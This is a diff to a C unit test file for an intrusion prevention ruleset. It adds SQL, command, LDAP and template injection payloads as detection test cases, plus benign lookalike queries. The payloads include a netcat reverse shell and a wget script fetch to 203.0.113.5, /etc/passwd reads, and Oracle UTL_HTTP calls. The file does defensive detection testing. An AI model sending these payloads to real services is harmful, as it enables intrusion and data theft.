@@ -111,6 +111,14 @@ static void test_sqli(void **state)
         {NULL, "{\"id\": \"1 AND 4242=4242\"}", JSON, 2100004},
         {"/p", "Cookie: sid=1%27%20or%20%271%27%3D%271\r\n", NULL, 2100005},     /* cookie */
         {"/p?id=1%20AND%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200%20END", NULL, NULL, 2100021},
+        {"/p", "Cookie: id=or%200%3D0%20--\r\n", NULL, 2100005},               /* value starts with OR */
+        {"/p?q=%22%27%20or%201%20--%27%22", NULL, NULL, 2100003},                /* quote, OR number, comment */
+        {"/p?id=1%27%20AnD%20tRuE--", NULL, NULL, 2100003},
+        {"/p?id=1%20and%20exists(select%20*%20from%20users)", NULL, NULL, 2100021},
+        {NULL, "{\"p\": \"'||UTL_HTTP.REQUEST('http://x.test/')||'\"}", JSON, 2100016},  /* Oracle package */
+        {"/p?q=x'%20AND%201=DBMS_XMLGEN.getxml('select%201')", NULL, NULL, 2100015},
+        {"/dir?cn=*)(%7C(mail=*))", NULL, NULL, 2100024},                      /* LDAP filter */
+        {"/dir?cn=x)(%26(objectClass=*))", NULL, NULL, 2100024},
     };
     check_tp(state, c, HS_ARRAY_SIZE(c));
 }
@@ -140,6 +148,12 @@ static void test_cmdi(void **state)
         {"/ping?host=a;cat${IFS}/etc/passwd", NULL, NULL, 2100203},
         {NULL, "host=1%3Bnc+-e+%2Fbin%2Fsh+203.0.113.5+4444", FORM, 2100201},
         {"/x?code=system('id')", NULL, NULL, 2100206},
+        {NULL, "{\"host\": \"127.0.0.1\\nwget http://203.0.113.5/x.sh\"}", JSON, 2100201}, /* JSON \\n */
+        {NULL, "{\"host\": \"x\\r\\n/usr/bin/id\"}", JSON, 2100201},
+        {"/ping?host=1;/usr/local/bin/nmap%20-sS%20x", NULL, NULL, 2100200},   /* path, new command */
+        {"/ping?host=1|grep%20root%20/etc/passwd", NULL, NULL, 2100200},
+        {"/ping?host=1;{cat,/etc/passwd}", NULL, NULL, 2100203},                /* brace expansion */
+        {"/ping?host=1%26%26iex%20(New-Object%20Net.WebClient)", NULL, NULL, 2100200},
     };
     check_tp(state, c, HS_ARRAY_SIZE(c));
 }
@@ -184,6 +198,8 @@ static void test_ssti_jndi(void **state)
         {"/x?name={{''.__class__.__mro__[1].__subclasses__()}}", NULL, NULL, 2100606},
         {"/x?q=${T(java.lang.Runtime).getRuntime().exec('id')}", NULL, NULL, 2100606},
         {NULL, "tpl=%3C%25%3D+7*7+%25%3E", FORM, 2100604},
+        {"/x", "Cookie: n=%2A%7B7%2A7%7D\r\n", NULL, 2100605},                /* *{ } percent-encoded */
+        {"/x", "Cookie: r=%25%7B%28%23_%3D%27multipart%2Fform-data%27%29%7D\r\n", NULL, 2100608}, /* OGNL */
     };
     check_tp(state, c, HS_ARRAY_SIZE(c));
 }
@@ -222,6 +238,14 @@ static void test_benign_lookalikes(void **state)
                "\"author\": \"O'Neil\", \"body\": \"<b>bold</b> and <i>it</i>\"}", JSON, 0},
         {NULL, "q=Javascript%3A+the+good+parts+%28book%29&cat=books&id=3", FORM, 0},
         {"/p", "Cookie: session=YWJjZGVmZ2hpams; theme=dark\r\nReferer: https://www.example.org/search?q=shoes\r\n", NULL, 0},
+        {NULL, "{\"note\": \"Line one\\nSet the table\\nfind the keys\\ntype it\"}", JSON, 0}, /* \\n + words */
+        {"/search?q=to+be+or+not+to+be", NULL, NULL, 0},
+        {"/search?q=or+2+tickets+please", NULL, NULL, 0},
+        {"/search?q=cats+(or+dogs)+for+adoption", NULL, NULL, 0},
+        {"/search?q=does+it+exist+(and+where)%3F", NULL, NULL, 0},
+        {"/search?q=regex+(a%7Cb)+and+(x%26y)", NULL, NULL, 0},
+        {NULL, "{\"text\": \"Use {curly, braces} and *{stars}* in markdown\"}", JSON, 0},
+        {"/docs/dbms/utl_http_guide.html", NULL, NULL, 0},
     };
     char msg[4096];
     for (size_t i = 0; i < HS_ARRAY_SIZE(c); i++) {
@@ -242,6 +266,9 @@ static void test_rule_set_shape(void **state)
     struct fixture *f = *state;
     size_t n = ips_ruleset_count(f->rs);
     assert_true(n >= 40);
+    /* every rule has a prefilter (a content or a Hyperscan-compilable pcre) */
+    assert_int_equal(ips_ruleset_always_count(f->rs), 0);
+    assert_true(ips_ruleset_regex_count(f->rs) >= 60);
     for (size_t i = 0; i < n; i++) {
         const struct ips_rule *r = ips_ruleset_rule(f->rs, i);
         assert_int_equal(ips_rule_action(r), IPS_ACT_DROP);
